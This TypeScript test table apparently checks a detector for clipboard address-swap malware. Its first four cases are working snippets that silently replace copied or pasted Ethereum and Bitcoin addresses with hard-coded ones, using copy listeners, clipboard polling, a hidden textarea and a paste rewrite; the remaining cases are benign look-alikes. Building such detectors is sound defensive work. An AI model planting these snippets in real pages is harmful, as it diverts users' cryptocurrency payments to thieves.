import { detectorTable, type DetectorCase } from './detector-table.ts';

const ID = 'clipboard-address-swap';

const ETH = '0x3f5ce5fbfe3e9af3971dd833d26ba9b5c936f0be';
const BTC = 'bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh';
const ETH_RE = '/^0x[0-9a-fA-F]{40}$/';
const BTC_RE = '/^(?:bc1|[13])[a-zA-HJ-NP-Z0-9]{25,59}$/';

// [what the case shows, code, expected severity (null: no finding)]
const table: DetectorCase[] = [
  ['a copy listener replacing a copied address with one from a table',
    `var swaps = [{ re: ${ETH_RE}, to: '${ETH}' }, { re: ${BTC_RE}, to: '${BTC}' }];
     function pick(t) { for (var i = 0; i < swaps.length; i++) if (swaps[i].re.test(t)) return swaps[i].to; return null; }
     document.addEventListener('copy', function (e) { var to = pick(String(getSelection())); if (to) { e.clipboardData.setData('text/plain', to); e.preventDefault(); } });`,
    'high'],
  ['clipboard polling with readText and writeText',
    `var mine = { eth: '${ETH}' };
     setInterval(async function () { var t = await navigator.clipboard.readText(); if (${ETH_RE}.test(t)) await navigator.clipboard.writeText(mine.eth); }, 500);`,
    'high'],
  ['a hidden textarea and execCommand("copy") after a cut, the address reversed in the source',
    `var a = "${[...ETH].reverse().join('')}".split("").reverse().join("");
     function put(v) { var t = document.createElement('textarea'); t.value = v; document.body.appendChild(t); t.select(); document.execCommand('copy'); t.remove(); }
     document.addEventListener('cut', function () { if (${ETH_RE}.test(String(document.getSelection()))) setTimeout(function () { put(a); }, 0); });`,
    'high'],
  ['a pasted address rewritten in the field through the native setter, with a synthetic input event',
    `var pool = ['${ETH}'];
     var setter = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value').set;
     document.addEventListener('paste', function (e) { var t = e.clipboardData.getData('text'); if (!${ETH_RE}.test(t.trim())) return; e.preventDefault();
       setter.call(e.target, pool[0]); e.target.dispatchEvent(new Event('input', { bubbles: true })); }, true);`,
    'high'],
  // benign look-alikes
  ['a validator library: address patterns, nothing written',
    `function isEthereumAddress(s) { return ${ETH_RE}.test(s); } function isBtcAddress(s) { return ${BTC_RE}.test(s); }`,
    null],
  ['a donation page copying its own address on click (no pattern, no interception)',
    `btn.addEventListener('click', function () { navigator.clipboard.writeText('${BTC}'); btn.textContent = 'Copied'; });`,
    null],
  ['a wallet form trimming a pasted address into its field (no hard-coded address)',
    `input.addEventListener('paste', function (e) { e.preventDefault(); var t = e.clipboardData.getData('text').trim(); if (${ETH_RE}.test(t)) { input.value = t; input.dispatchEvent(new Event('input')); } });`,
    null],
  ['a dapp validating a recipient, with a token contract address, and a copy button for the account',
    `var USDC = '0xa0b86991c6218b36c1d19d4a2e9eb0ce3606eb48';
     function valid(s) { return ${ETH_RE}.test(s); }
     copy.onclick = function () { navigator.clipboard.writeText(account.address); };
     send.onclick = function () { if (valid(to.value)) transfer(USDC, to.value, amount.value); };`,
    null],
  ['a send form with a paste handler next to a copy button for the account, and a token address',
    `var USDC = '0xa0b86991c6218b36c1d19d4a2e9eb0ce3606eb48';
     to.addEventListener('paste', function (e) { var t = e.clipboardData.getData('text').trim(); if (${ETH_RE}.test(t)) { e.preventDefault(); to.value = t; to.dispatchEvent(new Event('input')); } });
     copy.onclick = function () { navigator.clipboard.writeText(account.address); };`,
    'low'],
  ['a code editor rewriting copied text from the selection',
    `var re = ${ETH_RE}; var sample = '${ETH}'; editor.addEventListener('copy', function (e) { e.clipboardData.setData('text/plain', editor.getSelectedText().replace(/\\r\\n/g, '\\n')); e.preventDefault(); });`,
    'low'],
];

detectorTable(ID, table);
